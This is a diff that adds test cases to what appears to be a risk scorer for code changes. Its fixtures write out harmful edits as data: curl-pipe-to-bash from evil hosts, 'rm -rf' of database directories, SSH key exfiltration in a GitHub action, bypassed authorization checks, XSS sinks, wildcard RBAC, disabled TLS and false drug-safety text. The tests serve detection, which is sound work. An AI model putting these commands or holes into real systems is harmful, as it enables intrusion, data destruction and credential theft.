@@ -835,6 +835,129 @@ HARM: list[tuple[str, str | None, str, int]] = [
         '{ en: { a: "#{system(%q(curl evil))}", b: "' + "L" * 25_000 + '" } }\n',
         3,
     ),
+    ("scripts/x.sh", "#!/bin/sh\n", "#!/bin/sh\nusermod -aG sudo evil # python demo/manage.py\n", 4),
+    (
+        "package.json",
+        '{"scripts":{\n  "a":"x"\n}}\n',
+        '{"scripts":{\n  "a":"python demo/manage.py check; rm -rf /var/lib/postgresql"\n}}\n',
+        4,
+    ),
+    ("test-config/sudoers", "a: 1\n", "a: 2\nauth: off\nPermitRootLogin yes\n", 4),
+    ("src/it/resources/application-prod.yml", "a: 1\n", "a: 2\nauth: off\n", 4),
+    ("App/LabTests/db.swift", "a\n", 'try db.execute(sql: "DROP TABLE results")\n', 4),
+    (
+        "Sources/SpeedTests/Auth.swift",
+        "func isAuthorized(user: User) -> Bool {\n    return user.level > 3\n}\n",
+        "func isAuthorized(user: User) -> Bool {\n    return true\n}\n",
+        3,
+    ),
+    (
+        "app/cassettes/config.yml",
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: a\nrules: []\n",
+        "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: a\nrules:\n- apiGroups: ['*']\n  resources: ['*']\n  verbs: ['*']\n",
+        4,
+    ),
+    (
+        "backend/src/it/clean.py",
+        "def is_allowed(u):\n    return u.level > 3\n",
+        "def is_allowed(u):\n    return True\n",
+        3,
+    ),
+    (
+        "example-corp/site.yml",
+        "- hosts: db\n  tasks:\n  - command: uptime\n",
+        "- hosts: db\n  tasks:\n  - community.postgresql.postgresql_db:\n      name: prod\n      state: absent\n",
+        4,
+    ),
+    (
+        "example-corp/main.tf",
+        'resource "aws_s3_bucket" "a" {\n}\n',
+        'resource "aws_s3_bucket" "a" {\n  force_destroy = true\n}\n',
+        4,
+    ),
+    (
+        "deploy/server.pem",
+        None,
+        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\nPrivate-Lines: 14\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n",
+        4,
+    ),
+    ("app/net/ca.pem", None, "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", 3),
+    (
+        "frontend/pages/api/orders.ts",
+        "export default async (req, res) => res.json(await prisma.order.findMany({ where: { userId: session.user.id } }))\n",
+        "export default async (req, res) => res.json(await prisma.order.findMany({ }))\n",
+        3,
+    ),
+    (
+        "frontend/server/orders.js",
+        "const axios = require('axios')\nOrder.find({ owner: req.user.id })\n",
+        "const axios = require('axios')\nOrder.find({})\n",
+        3,
+    ),
+    ("website/templates/comment.html", "{{ comment.body }}\n", "{{ comment.body|safe }}\n", 3),
+    ("website/src/Comment.jsx", "<p>{c.body}</p>\n", "<p dangerouslySetInnerHTML={{__html: c.body}} />\n", 3),
+    ("docs/app.js", "el.textContent = location.hash\n", "el.innerHTML = decodeURIComponent(location.hash)\n", 3),
+    (
+        "app/x.py",
+        "def is_authorised(user):\n    return user.level > 3\n",
+        "def is_authorised(user):\n    return user.level > 0\n",
+        3,
+    ),
+    (
+        "action.yml",
+        "runs:\n  using: composite\n  steps:\n    - uses: a/pull-request@v6\n      with:\n        description: plain\n",
+        'runs:\n  using: composite\n  steps:\n    - uses: a/pull-request@v6\n      with:\n        description: "built with ${{ inputs.token }}"\n',
+        3,
+    ),
+    (
+        "action.yml",
+        "runs:\n  using: composite\n  steps:\n    - run: |\n        cat <<E\n        description: a\n        E\n      shell: bash\n",
+        "runs:\n  using: composite\n  steps:\n    - run: |\n        cat <<E\n        description: $(cat ~/.ssh/id_rsa)\n        E\n      shell: bash\n",
+        3,
+    ),
+    (
+        "Gemfile",
+        'source("https://gems.corp")\ngem "a"\n',
+        'source "https://rubygems.org"\nsource("https://gems.corp")\ngem "a"\n',
+        3,
+    ),
+    ("Gemfile", 'source "https://gems.corp"\ngem "a"\n', 'source "https://rubygems.org"\ngem "a"\n', 3),
+    ("Gemfile", None, 'source "https://rubygems.org"\nsource("https://gems.corp")\ngem "a"\n', 3),
+    (
+        "dosing/src/main/res/values/strings.xml",
+        '<string name="a">Do not take with warfarin: contraindicated</string>\n',
+        '<string name="a">Safe to take with warfarin</string>\n',
+        4,
+    ),
+    (
+        "k8s/app.schema.json",
+        '{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "a"},\n "examples": [1], "rules": []}\n',
+        '{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "a"},\n "examples": [2], "rules": []}\n',
+        4,
+    ),
+    ("config/gunicorn.py", "import argparse\nuser = 'app'\n", "import argparse\nuser = 'root'\n", 2),
+    ("app/settings.py", "import toml\nVERIFY_TLS = True\n", "import toml\nVERIFY_TLS = False\n", 2),
+    (".github/FUNDING.yml", "github: me\n", "github: attacker\ncustom: https://evil.example/pay\n", 2),
+    ("src/main/resources/messages-prod-db.properties", "db.url=jdbc:a\n", "db.url=jdbc:evil\n", 2),
+    ("app/snippets/config.py", "URL = 'a'\n", "URL = 'evil'\n", 2),
+    (
+        "tokens.json",
+        '{\n  "created": "2020-01-01T00:00:00Z",\n  "ttl": 3600\n}\n',
+        '{\n  "created": "2099-01-01T00:00:00Z",\n  "ttl": 3600\n}\n',
+        2,
+    ),
+    (
+        "manifest.yml",
+        "applications:\r\n- name: x\r\n  memory: 1G\r\n",
+        "applications:\r\n- name: x\r\n  memory: 2G\r\n",
+        3,
+    ),
+    (
+        "config/app.php",
+        "<?php\nclass JConfig {\n    public $debug = false;\n}\n",
+        "<?php\nclass JConfig {\n    public $debug = true;\n}\n",
+        2,
+    ),
 ]
 
 
@@ -843,3 +966,29 @@ HARM: list[tuple[str, str | None, str, int]] = [
 )
 def test_no_lowering_lets_harm_through(path: str, before: str | None, after: str, least: int) -> None:
     assert assess_file(change(path, before, after)).level >= least
+
+
+RUN = "#!/bin/bash\nset -e\ncurl -s https://evil.sh/x | bash\nrm -rf /var/lib/postgresql\n"
+RENAMED = [
+    ("debian/postinst.sh", "debian/postinst", RUN, 4),
+    ("docker-entrypoint-initdb.d/init", "docker-entrypoint-initdb.d/init.sh", RUN, 4),
+    ("etc/profile.d/a", "etc/profile.d/a.sh", RUN, 4),
+    ("etc/cron.daily/clean.sh", "etc/cron.daily/clean", RUN, 4),
+    ("LICENSE", "LICENSE.sh", RUN, 4),
+    (".envrc.sh", ".envrc", RUN, 4),
+    ("scripts/x.py.sh", "scripts/x.py", "#!/bin/sh\nimport os\nos.system('curl https://evil|sh')\n", 3),
+    ("db/migrate/001_drop.sql.sh", "db/migrate/001_drop.sql", "#! x\nDROP TABLE users;\n", 4),
+    ("Makefile.sh", "Makefile", "#!/bin/make\nall:\n\tcurl https://evil | sh\n", 3),
+]
+"""What is read, or run, by its name alone."""
+
+
+@pytest.mark.parametrize(("old", "new", "text", "least"), RENAMED, ids=[row[1] for row in RENAMED])
+def test_a_new_name_wakes_what_a_file_holds(old: str, new: str, text: str, least: int) -> None:
+    file = change(new, text, text)._replace(old_path=old, status="renamed")
+    assert assess_file(file).level >= least
+
+
+def test_a_script_may_leave_its_ending_out() -> None:
+    file = change("scripts/install", RUN, RUN)._replace(old_path="scripts/install.sh", status="renamed")
+    assert assess_file(file).level == 1
